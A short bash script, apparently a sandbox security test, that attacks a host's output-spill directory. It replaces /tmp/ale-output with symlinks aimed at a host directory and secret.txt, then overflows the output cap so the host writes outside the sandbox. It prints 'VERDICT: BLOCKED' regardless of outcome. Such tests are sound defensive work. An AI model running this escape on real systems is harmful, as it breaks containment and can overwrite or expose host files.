#!/bin/bash
# Attack on the output spill: the host writes an over-long output to /tmp/ale-output/exec-N.stdout inside
# the sandbox. Point that directory (and the likely file names) at a host directory, then overflow the cap.
# $1 = a host directory.
host_dir=$1
rm -rf /tmp/ale-output
mkdir -p /tmp/ale-output.d
for n in $(seq 1 20); do
  ln -sfn "$host_dir/secret.txt" /tmp/ale-output.d/exec-$n.stdout
  ln -sfn "$host_dir/exec-$n.stderr" /tmp/ale-output.d/exec-$n.stderr
done
ln -sfn /tmp/ale-output.d /tmp/ale-output
ln -sfn "$host_dir" /tmp/ale-output.d/host
head -c 20000 /dev/zero | tr '\0' 'A'
head -c 20000 /dev/zero | tr '\0' 'B' >&2
echo
echo "VERDICT: BLOCKED"
